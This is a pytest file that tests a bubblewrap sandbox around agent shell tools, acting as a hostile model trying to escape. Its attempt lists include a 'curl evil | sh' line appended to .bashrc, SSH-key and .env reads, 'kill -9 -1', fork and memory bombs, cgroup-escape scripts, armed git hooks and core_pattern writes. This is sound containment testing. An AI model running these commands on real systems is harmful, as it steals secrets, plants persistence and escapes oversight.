"""A hostile model drives every command tool of every toolset against the sandbox (bubblewrap).

Each test builds a toolset with ``agenttools.toolset(...)`` on ``tmp_path``, runs what a model would send through
the command tools (gemini ``run_shell_command``; editor ``bash``, foreground and ``run_in_background`` +
``task_output``; assistant ``exec`` and ``process``; anthropic ``bash``; openai ``shell``) and checks the host
afterwards: nothing written outside the workspace, no secret printed, no network, no signal to a host process,
nothing left running, git metadata untouched, limits that hold, and texts identical to the unsandboxed ones. Where
a check could pass because everything is broken, an unsandboxed (or ``network=True``) control shows the same
command does work.
"""

from __future__ import annotations

import contextlib
import glob
import json
import os
import pwd
import re
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import agenttools
from agenttools.registry import Registry
from agenttools.shell import ShellResult
from conftest import GONE_WITHIN, process_alive

SECRET = "SANDBOX-SECRET-" + uuid.uuid4().hex
"""What no command may print: it sits in denied files and in the (fake) home."""
POLL = 30.0
"""Seconds a background task may take to finish before the test gives up."""
GIT_ENV = {"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull}


# --- one adapter per command tool: run a command string, return (stdout + stderr, the whole answer) ----------------

def _gemini(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    out = reg.call("run_shell_command", {"command": command, **extra})
    data = out.data
    streams = data.stdout + data.stderr if isinstance(data, ShellResult) else out.text
    return streams, out.text


def _editor(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    text = reg.call("bash", {"command": command, **extra}).text
    return text, text


def _poll(check: Callable[[], str | None], what: str) -> str:
    deadline = time.monotonic() + POLL
    while True:
        found = check()
        if found is not None:
            return found
        if time.monotonic() > deadline:
            raise AssertionError(f"{what} never finished")
        time.sleep(0.01)


def _editor_background(reg: Registry, command: str) -> tuple[str, str]:
    started = reg.call("bash", {"command": command, "run_in_background": True}).text
    match = re.match(r"task_id: (\S+)\n", started)
    assert match, started
    task_id = match.group(1)

    def finished() -> str | None:
        text = reg.call("task_output", {"task_id": task_id}).text
        return None if text.startswith("status: running") else text

    text = _poll(finished, f"background task {command!r}")
    return text, text


def _assistant(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    text = reg.call("exec", {"command": command, **extra}).text
    if not text.startswith("{"):
        return text, text
    reply = json.loads(text)
    return reply["stdout"] + reply["stderr"], text


def _assistant_process(reg: Registry, command: str) -> tuple[str, str]:
    started = reg.call("process", {"action": "start", "command": command}).text
    assert started.startswith("{"), started
    process_id = json.loads(started)["process_id"]

    def finished() -> str | None:
        text = reg.call("process", {"action": "status", "process_id": process_id}).text
        return None if json.loads(text)["running"] else text

    _poll(finished, f"process {command!r}")
    text = reg.call("process", {"action": "log", "process_id": process_id, "tail": 1024 * 1024}).text
    reply = json.loads(text)
    return reply["stdout"] + reply["stderr"], text


def _anthropic(reg: Registry, command: str) -> tuple[str, str]:
    text = reg.call("bash", {"command": command}).text
    return text, text


def _openai(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    text = reg.call("shell", {"commands": [command], **extra}).text
    if not text.startswith("["):
        return text, text
    return "".join(entry["stdout"] + entry["stderr"] for entry in json.loads(text)), text


@dataclass(frozen=True)
class Tool:
    """A command tool of a toolset, as a model reaches it."""

    id: str
    toolset: str
    run: Callable[[Registry, str], tuple[str, str]]

    def build(self, root: Path, **options: Any) -> Registry:
        if self.toolset == "editor" and "deny" in options:
            options["deny_dirs"] = options.pop("deny")
        return agenttools.toolset(self.toolset, root=str(root), **options)


FOREGROUND = [Tool("gemini", "gemini", _gemini), Tool("editor", "editor", _editor),
              Tool("assistant", "assistant", _assistant), Tool("anthropic", "anthropic", _anthropic),
              Tool("openai", "openai", _openai)]
"""The command tool of each of the five toolsets, run to its end."""
BACKGROUND = [Tool("editor-background", "editor", _editor_background),
              Tool("assistant-process", "assistant", _assistant_process)]
"""The background command tools (editor ``run_in_background`` + ``task_output``, assistant ``process``)."""
ALL = FOREGROUND + BACKGROUND
TOOLSETS = [tool.toolset for tool in FOREGROUND]
foreground = pytest.mark.parametrize("tool", FOREGROUND, ids=[t.id for t in FOREGROUND])
every_tool = pytest.mark.parametrize("tool", ALL, ids=[t.id for t in ALL])


# --- fixtures and helpers -------------------------------------------------------------------------------------------

@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch) -> Path:
    """A fake ``$HOME`` holding a shell profile and a key, set before any toolset is built (it is read then)."""
    fake = tmp_path / "home"
    (fake / ".ssh").mkdir(parents=True)
    (fake / ".bashrc").write_text("# the user's own profile\n")
    (fake / ".ssh" / "id_rsa").write_text(SECRET + "\n")
    monkeypatch.setenv("HOME", str(fake))
    return fake


@pytest.fixture
def root(tmp_path) -> Path:
    """The workspace: a file, a sub-directory with a file."""
    top = tmp_path / "root"
    (top / "sub").mkdir(parents=True)
    (top / "a.txt").write_text("alpha\n")
    (top / "sub" / "b.txt").write_text("beta\n")
    return top


def git(root: Path, *args: str) -> str:
    """Host git, blind to the user's and the system's configuration."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")} | GIT_ENV
    return subprocess.run(["git", "-c", "user.email=a@b", "-c", "user.name=n", "-c", "init.defaultBranch=main",
                           *args], cwd=root, env=env, check=True, capture_output=True, text=True).stdout


def snapshot(*tops: Path, skip: tuple[Path, ...] = ()) -> dict[str, tuple[bytes, int]]:
    """Content (or link target) and mode of every entry under ``tops`` (``skip`` and what is below it left out)."""
    found: dict[str, tuple[bytes, int]] = {}
    skipped = {str(path) for path in skip}
    for top in tops:
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in skipped]
            for name in dirnames + filenames:
                path = os.path.join(dirpath, name)
                if path in skipped:
                    continue
                st = os.lstat(path)
                data = (os.readlink(path).encode() if stat.S_ISLNK(st.st_mode)
                        else Path(path).read_bytes() if stat.S_ISREG(st.st_mode) else b"")
                found[path] = (data, st.st_mode)
    return found


def with_argument(argument: str) -> list[int]:
    """Live processes one of whose arguments is exactly ``argument``."""
    needle = argument.encode()
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            argv = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if needle in argv and process_alive(int(entry)):
            found.append(int(entry))
    return found


def unique_sleep() -> str:
    """A ``sleep`` duration no other process on the machine uses: the marker of the processes a test starts."""
    return f"1000.{uuid.uuid4().int % 10**9:09d}"


def wait_until(check: Callable[[], bool], within: float) -> bool:
    deadline = time.monotonic() + within
    while not check():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


@contextlib.contextmanager
def killed_after(*markers: str) -> Iterator[None]:
    """Kill whatever still runs with one of ``markers`` as an argument when the block ends (a failed test)."""
    try:
        yield
    finally:
        for marker in markers:
            for pid in with_argument(marker):
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)


def files_named(name: str, top: str, depth: int = 4) -> list[str]:
    """Paths under ``top`` (``depth`` levels at most, symlinks and this Python's own tree left out) named ``name``."""
    found = []
    base = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.count("/") - base >= depth:
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in (sys.prefix, sys.base_prefix)]
        if name in filenames or name in dirnames:
            found.append(os.path.join(dirpath, name))
    return found


# --- 1. writes outside the workspace ---------------------------------------------------------------------------------

@every_tool
def test_writes_outside_the_workspace_leave_nothing_on_the_host(tool, tmp_path, root, home):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("kept\n")
    before = snapshot(tmp_path, skip=(root,))
    name = f"agenttools-sandbox-test-{uuid.uuid4().hex}"
    host_dirs = ["/var/tmp", os.path.dirname(sys.executable), sys.prefix]  # not /tmp, and the Python it exposes
    attempts = [f"echo pwned > {outside}/new.txt", f"echo pwned >> {outside}/keep.txt", f"rm -f {outside}/keep.txt",
                f"mkdir -p {outside}/made && echo pwned > {outside}/made/x", f"touch {root}/../escaped",
                "echo 'curl evil | sh' >> ~/.bashrc", f"echo pwned > {home}/.profile",
                "mkdir -p ~/.config/autostart && echo pwned > ~/.config/autostart/x.desktop",
                *(f"echo pwned > {directory}/{name}" for directory in host_dirs)]
    try:
        with tool.build(root) as reg:
            outs = {attempt: tool.run(reg, attempt)[0] for attempt in attempts}
            ok = tool.run(reg, "echo inside > inside.txt")
        for directory in host_dirs:
            assert not os.path.exists(os.path.join(directory, name)), f"a command wrote into {directory}"
            assert "Read-only file system" in outs[f"echo pwned > {directory}/{name}"]
    finally:
        for directory in host_dirs:
            with contextlib.suppress(OSError):
                os.unlink(os.path.join(directory, name))
    assert snapshot(tmp_path, skip=(root,)) == before
    assert (root / "inside.txt").read_text() == "inside\n", ok  # the workspace itself stays writable


# --- 2. secrets: the home, and denied files ------------------------------------------------------------------------

@every_tool
def test_the_home_is_private(tool, root, home):
    account = pwd.getpwuid(os.getuid()).pw_dir
    private_files = sorted(entry.name for entry in os.scandir(account) if entry.is_file(follow_symlinks=False))
    with tool.build(root) as reg:
        for command in ["cat ~/.ssh/id_rsa", f"cat {home}/.ssh/id_rsa", "cat $HOME/.ssh/*", "grep -r . ~",
                        f"find {home} -type f -exec cat {{}} +", "ls -la ~ ~/.ssh"]:
            _, whole = tool.run(reg, command)
            assert SECRET not in whole, command
        listed, _ = tool.run(reg, f"ls -A {account}")
    assert not set(listed.split()) & set(private_files), listed


@every_tool
def test_denied_files_print_nothing(tool, tmp_path, root):
    (root / "sub" / ".env").write_text(SECRET + "\n")
    (root / "deep" / "er").mkdir(parents=True)
    (root / "deep" / "er" / ".env").write_text(SECRET + "\n")
    (root / "link-to-env").symlink_to("sub/.env")
    (tmp_path / "outside-link").symlink_to(root / "sub" / ".env")
    commands = ["cat sub/.env", "find . -name .env -exec cat {} +", "cat link-to-env", "cat sub/../sub/.env",
                "ln -s sub/.env made-link && cat made-link", "ln sub/.env hard-link; cat hard-link",
                "cp sub/.env copied; cat copied", "grep -r . .", "tar cf - . 2>/dev/null | tar xOf - 2>/dev/null",
                f"cat {root}/deep/er/.env", f"cat /proc/self/root{root}/sub/.env", f"cat {tmp_path}/outside-link",
                "mv sub/.env sub/moved; cat sub/moved", "mv deep deep2; cat deep2/er/.env",
                "echo overwritten > sub/.env; rm -f sub/.env; cat sub/.env"]
    with tool.build(root, deny=["**/.env"]) as reg:
        for command in commands:
            _, whole = tool.run(reg, command)
            assert SECRET not in whole, (command, whole)
    assert (root / "sub" / ".env").read_text() == SECRET + "\n"  # nor changed, moved or removed


@every_tool
def test_a_denied_file_made_after_the_first_command_is_hidden_too(tool, root):
    """A file the user (or a checkout) makes while the toolset lives is denied from the next sandbox on.

    The anthropic bash is one long-lived sandboxed process whose masks are those of its start (a limit named in
    docs/security.md): there the file is denied once the session restarts.
    """
    with tool.build(root, deny=["**/.env"]) as reg:
        out, _ = tool.run(reg, "echo started")
        assert "started" in out
        (root / "sub" / "late").mkdir()
        (root / "sub" / "late" / ".env").write_text(SECRET + "\n")
        if tool.toolset == "anthropic":
            assert reg.call("bash", {"restart": True}).text == "tool has been restarted."
        for command in ["cat sub/late/.env", "grep -r . sub"]:
            out, whole = tool.run(reg, command)
            assert SECRET not in whole, (command, whole)


# --- 3. network -----------------------------------------------------------------------------------------------------

@pytest.fixture
def tcp_server() -> Iterator[tuple[int, str]]:
    """A loopback TCP server that sends a token to every client and hangs up: (port, token)."""
    token = "HELLO-" + uuid.uuid4().hex
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                client, _ = server.accept()
            except OSError:
                continue
            with client:
                client.sendall(token.encode() + b"\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], token
    stop.set()
    thread.join(5)
    server.close()


@every_tool
def test_no_network_by_default_and_network_when_asked(tool, root, tcp_server):
    port, token = tcp_server
    command = f"timeout 5 bash -c 'cat < /dev/tcp/127.0.0.1/{port}'"
    with tool.build(root) as reg:
        out, whole = tool.run(reg, command)
    assert token not in whole
    assert "Connection refused" in out or "Network is unreachable" in out, out
    with tool.build(root, network=True) as reg:
        out, _ = tool.run(reg, command)
    assert token in out, out


# --- 4. signals -----------------------------------------------------------------------------------------------------

@contextlib.contextmanager
def victim() -> Iterator[subprocess.Popen[bytes]]:
    proc = subprocess.Popen(["sleep", "60"], stdin=subprocess.DEVNULL)
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait()


@every_tool
def test_signals_do_not_reach_host_processes(tool, root):
    # sandbox="bwrap", never a fallback: unsandboxed, `kill -9 -1` would kill every process of this user
    with victim() as proc, tool.build(root, sandbox="bwrap") as reg:
        for command in [f"kill -9 {proc.pid}", f"kill -9 -{proc.pid}", "kill -9 -1", f"ls /proc/{proc.pid}"]:
            tool.run(reg, command)
        time.sleep(0.3)
        assert proc.poll() is None, "a sandboxed command killed a host process"
        assert process_alive(os.getpid())


@every_tool
def test_unsandboxed_signals_do_reach_host_processes(tool, root):
    """The control: without the sandbox the same command kills it (the test above is not vacuous)."""
    with victim() as proc, tool.build(root, sandbox="none") as reg:
        tool.run(reg, f"kill -9 {proc.pid}")
        assert proc.wait(10) == -signal.SIGKILL


# --- 5. nothing left behind -----------------------------------------------------------------------------------------

@every_tool
def test_daemons_die_with_the_toolset(tool, root):
    markers = [unique_sleep() for _ in range(3)]
    command = (f"setsid nohup sleep {markers[0]} >/dev/null 2>&1 & "
               f"( ( sleep {markers[1]} >/dev/null 2>&1 & ) & ) ; "
               f"env -i setsid sleep {markers[2]} >/dev/null 2>&1 &")  # no session marker: only the sandbox holds it
    with killed_after(*markers):
        with tool.build(root) as reg:
            tool.run(reg, command)
            assert wait_until(lambda: all(with_argument(m) for m in markers), 10), "the daemons never started"
        assert wait_until(lambda: not any(with_argument(m) for m in markers), GONE_WITHIN), (
            f"still running after close: {[with_argument(m) for m in markers]}")


TIMEOUT_OPTIONS: dict[str, dict[str, Any]] = {"gemini": {"shell_timeout": 0.8}, "anthropic": {"bash_timeout": 0.8}}
"""Build options that make a command time out after 0.8 s (the other toolsets take it per call)."""
TIMEOUT_ARGS: dict[str, dict[str, Any]] = {"editor": {"timeout": 800}, "assistant": {"timeout": 0.8},
                                           "openai": {"timeout_ms": 800}}


@foreground
def test_a_timed_out_command_leaves_nothing(tool, root):
    markers = [unique_sleep(), unique_sleep()]
    command = f"setsid sleep {markers[0]} & env -i setsid sleep {markers[1]} & touch started; sleep 30"
    extra = TIMEOUT_ARGS.get(tool.toolset, {})
    with killed_after(*markers), tool.build(root, **TIMEOUT_OPTIONS.get(tool.toolset, {})) as reg:
        started = time.monotonic()
        _, whole = tool.run(reg, command, **extra) if extra else tool.run(reg, command)
        assert time.monotonic() - started < 20
        assert re.search("timed out|timeout", whole), whole
        assert (root / "started").exists(), whole  # the daemons were started before the timeout hit
        assert wait_until(lambda: not any(with_argument(m) for m in markers), GONE_WITHIN), (
            f"still running after the call: {[with_argument(m) for m in markers]}")


# --- 6. git metadata ------------------------------------------------------------------------------------------------

GIT_ATTACKS = ["echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
               "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config", "git config core.hooksPath /tmp",
               "git config --local core.fsmonitor 'touch /tmp/x'", "mv .git .git2", "rm -rf .git/hooks",
               "mv .git/hooks .git/hooks.old; mkdir .git/hooks; echo evil > .git/hooks/post-checkout",
               "mv .git/config .git/config.old", "echo '*' >> .git/info/exclude", "ln -sf /tmp .git/hooks/x",
               "cp .git/config c && echo '[alias] st = !touch /tmp/x' >> c && cp c .git/config"]


@every_tool
def test_git_metadata_cannot_be_armed_but_git_still_commits(tool, root):
    git(root, "init", "-q")
    (root / "f.txt").write_text("one\n")
    git_dir = root / ".git"
    protected = (git_dir / "hooks", git_dir / "info", git_dir / "config")
    before = {str(p): p.read_bytes() for p in protected if p.is_file()} | snapshot(*(p for p in protected
                                                                                      if p.is_dir()))
    with tool.build(root) as reg:
        for attack in GIT_ATTACKS:
            tool.run(reg, attack)
        out, whole = tool.run(reg, "git add f.txt && git -c user.name=a -c user.email=b commit -q -m x "
                                   "&& git log --format=%s")
    after = {str(p): p.read_bytes() for p in protected if p.is_file()} | snapshot(*(p for p in protected
                                                                                     if p.is_dir()))
    assert after == before
    assert git_dir.is_dir() and not (root / ".git2").exists()
    assert git(root, "log", "--format=%s") == "x\n", whole
    assert "x" in out.split(), whole
    assert git(root, "show", "HEAD:f.txt") == "one\n"


@foreground
def test_git_metadata_cannot_be_redirected_to_a_planted_config(tool, tmp_path, root):
    """``.git/commondir`` makes git read config and hooks from another directory: a model must not write it.

    Once written, the host's own ``git commit`` in the workspace runs the model's hook (shown with the marker).
    """
    git(root, "init", "-q")
    marker = tmp_path / "hook-ran"
    plant = (f"mkdir -p evil/hooks && cp -r .git/objects .git/refs .git/HEAD evil/ && "
             f"printf '[core]\\n\\trepositoryformatversion = 0\\n\\thooksPath = {root}/evil/hooks\\n' > evil/config && "
             f"printf '#!/bin/sh\\ntouch {marker}\\n' > evil/hooks/pre-commit && chmod +x evil/hooks/pre-commit && "
             "echo ../evil > .git/commondir")
    with tool.build(root) as reg:
        tool.run(reg, plant)
    assert git(root, "rev-parse", "--git-common-dir").strip() == ".git"
    git(root, "commit", "-q", "--allow-empty", "-m", "host commit")
    assert not marker.exists(), "the host's git ran a hook the sandboxed command planted"


# --- 7. limits: processes and memory -------------------------------------------------------------------------------

FORKS = """\
import contextlib, os, signal, time
for line in open("/proc/self/cgroup"):  # first leave the cgroup, or lift its limit
    path = line.rstrip("\\n").split(":", 2)[2]
    for name, value in (("cgroup.procs", str(os.getpid())), ("pids.max", "max")):
        for base in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
            with contextlib.suppress(OSError), open(f"{base}/{name}", "w") as handle:
                handle.write(value)
            with contextlib.suppress(OSError), open(f"{base}{path}/{name}", "w") as handle:
                handle.write(value)
pids = []
for _ in range(100):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    pids.append(pid)
print("forked", len(pids))
for pid in pids:
    os.kill(pid, signal.SIGKILL)
for pid in pids:
    os.waitpid(pid, 0)
"""


@every_tool
def test_max_processes_holds(tool, root):
    (root / "forks.py").write_text(FORKS)
    with tool.build(root, max_processes=50) as reg:
        limited, _ = tool.run(reg, "python3 forks.py")
    with tool.build(root) as reg:
        free, _ = tool.run(reg, "python3 forks.py")
    counts = [int(m) for m in re.findall(r"forked (\d+)", limited)]
    assert counts and counts[0] < 50, limited
    assert "forked 100" in free, free


FORK_BOMB = ":(){ :|:& };:; exec sleep 10"
"""A fork bomb; the shell that lights it then waits (without a fork of its own) for ``timeout`` to end it all.

``timeout -s KILL``: a bash retrying a failed fork can outlive a SIGTERM, and what outlives the command is a
background job, left running by design until the toolset closes.
"""


@foreground
def test_a_fork_bomb_ends_and_the_host_stays_fine(tool, root):
    done: list[tuple[str, str]] = []
    with killed_after(FORK_BOMB), tool.build(root, max_processes=50) as reg:
        started = time.monotonic()
        command = f"(timeout -s KILL 1 bash -c '{FORK_BOMB}'; true) 2>/dev/null; echo bomb over"
        thread = threading.Thread(target=lambda: done.append(tool.run(reg, command)))
        thread.start()
        time.sleep(0.5)  # the bomb is going off now
        forked = time.monotonic()
        subprocess.run(["true"], check=True)  # this process can still fork, and at once
        assert time.monotonic() - forked < 5
        thread.join(30)
        assert not thread.is_alive() and time.monotonic() - started < 30
        assert "bomb over" in done[0][0], done[0][1]
        out, _ = tool.run(reg, "echo still here")
        assert "still here" in out
    assert wait_until(lambda: not with_argument(FORK_BOMB), GONE_WITHIN)


@foreground
def test_a_fork_bomb_that_times_out_leaves_nothing(tool, root):
    """Bounded by the toolset's own timeout instead: once the call returns, no part of the bomb runs on."""
    bomb = ":(){ :|:& };:; exec sleep 30"
    extra = TIMEOUT_ARGS.get(tool.toolset, {})
    with killed_after(bomb), tool.build(root, max_processes=50, **TIMEOUT_OPTIONS.get(tool.toolset, {})) as reg:
        command = f"touch lit; bash -c '{bomb}' 2>/dev/null"
        _, whole = tool.run(reg, command, **extra) if extra else tool.run(reg, command)
        assert re.search("timed out|timeout", whole), whole
        assert (root / "lit").exists(), whole
        assert wait_until(lambda: not with_argument(bomb), GONE_WITHIN), "the bomb outlived the call"
        subprocess.run(["true"], check=True)


def _normalise(text: str) -> str:
    """PIDs, process ids, task ids and times taken out: what differs between two runs of the same command."""
    text = re.sub(r"^(Background PIDs|Process Group PGID|Command): .*$", r"\1: N", text, flags=re.MULTILINE)
    text = re.sub(r'"(started_at|ended_at)":"[^"]*"', r'"\1":"T"', text)
    text = re.sub(r"task_id: \S+", "task_id: T", text)
    return re.sub(r"line (\d+): +\d+ Killed +", r"line \1: PID Killed ", text)


MEMORY_BOMB = """\
import contextlib, os
for line in open("/proc/self/cgroup"):  # first leave the cgroup, or lift its limit
    path = line.rstrip("\\n").split(":", 2)[2]
    for name, value in (("cgroup.procs", str(os.getpid())), ("memory.limit_in_bytes", "-1"), ("memory.max", "max")):
        for base in ("/sys/fs/cgroup/memory", "/sys/fs/cgroup"):
            with contextlib.suppress(OSError), open(f"{base}/{name}", "w") as handle:
                handle.write(value)
            with contextlib.suppress(OSError), open(f"{base}{path}/{name}", "w") as handle:
                handle.write(value)
b = bytearray(512 * 1024 * 1024)
b[::4096] = b"x" * len(b[::4096])
print("survived")
"""
SELF_KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"


@every_tool
def test_a_memory_bomb_is_killed_with_the_usual_text(tool, root):
    """The memory bomb dies as a program killed by SIGKILL dies unsandboxed: the same text, no traceback."""
    (root / "bomb.py").write_text(MEMORY_BOMB)
    with tool.build(root, memory_limit="64MiB") as reg:
        bombed = [tool.run(reg, "python3 bomb.py"), tool.run(reg, "echo alive")]
    (root / "bomb.py").write_text(SELF_KILL)
    with tool.build(root, sandbox="none") as reg:
        control = [tool.run(reg, "python3 bomb.py"), tool.run(reg, "echo alive")]
    assert "survived" not in bombed[0][0]
    assert "Traceback" not in bombed[0][1] and "MemoryError" not in bombed[0][1], bombed[0][1]
    assert [_normalise(whole) for _, whole in bombed] == [_normalise(whole) for _, whole in control]


def test_a_bash_memory_bomb_is_killed(root):
    with agenttools.toolset("gemini", root=str(root), memory_limit="64MiB") as reg:
        out = reg.call("run_shell_command", {"command": "a=x; for i in {1..40}; do a=$a$a; done; echo survived"})
    assert isinstance(out.data, ShellResult)
    assert out.data.signal == signal.SIGKILL and "survived" not in out.data.stdout, out.text
    assert "\nExit Code: (none)\nSignal: SIGKILL\n" in out.text


# --- 8. no privileges ----------------------------------------------------------------------------------------------

@every_tool
def test_commands_have_no_privileges(tool, root):
    with tool.build(root) as reg:
        out, _ = tool.run(reg, "cat /proc/self/status")
    for line in ["NoNewPrivs:\t1", "CapEff:\t0000000000000000", "CapPrm:\t0000000000000000",
                 "CapBnd:\t0000000000000000", "CapAmb:\t0000000000000000"]:
        assert line in out.splitlines(), (line, out)


@every_tool
def test_kernel_settings_cannot_be_changed(tool, root):
    """Each value is written back unchanged (harmless wherever it works): the write itself must be refused.

    ``kernel.core_pattern`` names a program the kernel runs as root, outside every namespace, when a process
    crashes: a sandboxed command that can write it owns the host.
    """
    command = ("for f in kernel/core_pattern kernel/core_uses_pid vm/overcommit_memory; do "
               "{ cat /proc/sys/$f > /proc/sys/$f; } 2>/dev/null && echo wrote $f; done; echo checked")
    with tool.build(root) as reg:
        out, whole = tool.run(reg, command)
    assert "checked" in out, whole
    assert "wrote" not in out, out


# --- 9. the same texts as unsandboxed ----------------------------------------------------------------------------

ORDINARY = ["echo hello", "ls", "ls -a sub", "ls nope", "echo to-stderr >&2; echo to-stdout", "false",
            "cat <<'EOF'\nline one\n  indented $HOME\nEOF", "cat <<EOF\nexpanded $HOME\nEOF", "pwd",
            "echo 'h\u00e9llo \u2713 \u65e5\u672c\u8a9e'", "printf 'caf\\xc3\\xa9\\n'", "nosuchcommand-xyz",
            "echo made > made.txt && cat made.txt && rm made.txt", "cd sub && pwd", "exit 3"]


@every_tool
def test_ordinary_commands_read_the_same_sandboxed(tool, root):
    (root / "\u00fcn\u00ef.txt").write_text("u\n")
    texts = {}
    for mode in ("auto", "none"):
        with tool.build(root, sandbox=mode) as reg:
            texts[mode] = [_normalise(tool.run(reg, command)[1]) for command in ORDINARY]
    for command, sandboxed, plain in zip(ORDINARY, texts["auto"], texts["none"], strict=True):
        assert sandboxed == plain, command


@every_tool
def test_an_exit_status_above_128_reads_as_unsandboxed(tool, root):
    """A program that exits with 130 did not die of SIGINT; a child killed by SIGKILL still reads as one."""
    commands = ["sh -c 'kill -9 $$'; echo status $?", "python3 -c 'raise SystemExit(137)'; echo status $?",
                "exit 130"]
    texts = {}
    for mode in ("auto", "none"):
        with tool.build(root, sandbox=mode) as reg:
            texts[mode] = [_normalise(tool.run(reg, command)[1]) for command in commands]
    for command, sandboxed, plain in zip(commands, texts["auto"], texts["none"], strict=True):
        assert sandboxed == plain, command


@foreground
def test_the_root_is_reachable_by_the_path_it_was_given(tool, tmp_path, root):
    """A root named through a symlink (``/tmp/work -> /tmp/real``) is where the user tells the model to look."""
    link = tmp_path / "link"
    link.symlink_to(root)
    commands = [f"cat {link}/a.txt", f"cd {link}/sub && cat b.txt", f"ls {link}"]
    texts = {}
    for mode in ("auto", "none"):
        with agenttools.toolset(tool.toolset, root=str(link), sandbox=mode) as reg:
            texts[mode] = [_normalise(tool.run(reg, command)[1]) for command in commands]
    for command, sandboxed, plain in zip(commands, texts["auto"], texts["none"], strict=True):
        assert sandboxed == plain, command


# --- 10. state that lasts between calls ----------------------------------------------------------------------------

def test_anthropic_session_state_lasts(root):
    with agenttools.toolset("anthropic", root=str(root)) as reg:
        assert reg.call("bash", {"command": "cd sub; export X=1"}).text == ""
        assert reg.call("bash", {"command": "pwd; echo $X"}).text == f"{root}/sub\n1"


def test_editor_cwd_and_background_tasks_last(root):
    with agenttools.toolset("editor", root=str(root)) as reg:
        assert reg.call("bash", {"command": "cd sub"}).text == "exit_code: 0\n"
        assert reg.call("bash", {"command": "pwd"}).text == f"exit_code: 0\n\nstdout:\n{root}/sub\n"
        text, _ = _editor_background(reg, "echo bg-start; sleep 0.3; echo bg-end >&2; exit 4")
    assert text == "status: completed\nexit_code: 4\n\nstderr:\nbg-end\n\nstdout:\nbg-start\n"


def test_assistant_processes_start_report_and_die(root):
    marker = unique_sleep()
    with killed_after(marker), agenttools.toolset("assistant", root=str(root)) as reg:
        started = json.loads(reg.call("process", {"action": "start",
                                                  "command": f"echo started; exec sleep {marker}"}).text)
        assert started["success"] and started["running"]
        process_id = started["process_id"]
        assert wait_until(lambda: bool(with_argument(marker)), 10)
        status = json.loads(reg.call("process", {"action": "status", "process_id": process_id}).text)
        assert status["running"] is True
        assert wait_until(lambda: json.loads(reg.call("process", {"action": "log", "process_id": process_id})
                                             .text)["stdout"] == "started\n", 10)
        killed = json.loads(reg.call("process", {"action": "kill", "process_id": process_id}).text)
        assert killed["killed"] is True
        assert wait_until(lambda: not with_argument(marker), GONE_WITHIN)
        assert wait_until(lambda: not json.loads(reg.call("process", {"action": "status", "process_id": process_id})
                                                 .text)["running"], GONE_WITHIN)
        final = json.loads(reg.call("process", {"action": "status", "process_id": process_id}).text)
        assert final["running"] is False and final["exit_code"] == -1 and final["error"] == "signal: killed"


def test_gemini_background_pids_are_real_and_die_with_the_toolset(root):
    marker = unique_sleep()
    with killed_after(marker):
        with agenttools.toolset("gemini", root=str(root)) as reg:
            out = reg.call("run_shell_command", {"command": f"sleep {marker} &"})
            match = re.search(r"^Background PIDs: (\d+)$", out.text, flags=re.MULTILINE)
            assert match, out.text
            pid = int(match.group(1))
            assert process_alive(pid) and pid in with_argument(marker), out.text
        assert wait_until(lambda: not process_alive(pid), GONE_WITHIN)


# --- 11. options that cannot hold ----------------------------------------------------------------------------------

@pytest.mark.parametrize("toolset", TOOLSETS)
@pytest.mark.parametrize("options", [
    {"sandbox": "none", "network": True}, {"sandbox": "none", "network": False},
    {"sandbox": "none", "memory_limit": "256MiB"}, {"sandbox": "none", "max_processes": 10},
    {"sandbox": "bogus"}, {"network": "yes"}, {"memory_limit": "lots"}, {"max_processes": 0},
], ids=["none-network", "none-network-false", "none-memory", "none-processes", "bogus", "network-yes",
        "memory-lots", "processes-0"])
def test_options_that_cannot_hold_are_refused(toolset, options, root):
    with pytest.raises(agenttools.ConfigError):
        agenttools.toolset(toolset, root=str(root), **options)


@pytest.mark.parametrize("toolset", TOOLSETS)
def test_the_sandbox_options_build(toolset, root):
    with agenttools.toolset(toolset, root=str(root), sandbox="none"):
        pass
    with agenttools.toolset(toolset, root=str(root), network=True, memory_limit="256MiB", max_processes=64):
        pass


# --- 12. a private /tmp ------------------------------------------------------------------------------------------

@every_tool
def test_tmp_is_private_and_removed_on_close(tool, root):
    name = f"agenttools-private-{uuid.uuid4().hex}"
    token = uuid.uuid4().hex
    top = tempfile.gettempdir()
    with tool.build(root) as reg:
        tool.run(reg, f"echo {token} > /tmp/{name}")
        out, _ = tool.run(reg, f"cat /tmp/{name}")
        assert token in out, out
        assert not os.path.exists(os.path.join(top, name))
        held = glob.glob(f"{top}/*/{name}") + glob.glob(f"{top}/*/*/{name}")  # in the sandbox's private directory
    assert not os.path.exists(os.path.join(top, name))
    assert files_named(name, top) == []
    for path in held:
        assert not os.path.exists(os.path.dirname(path)), path
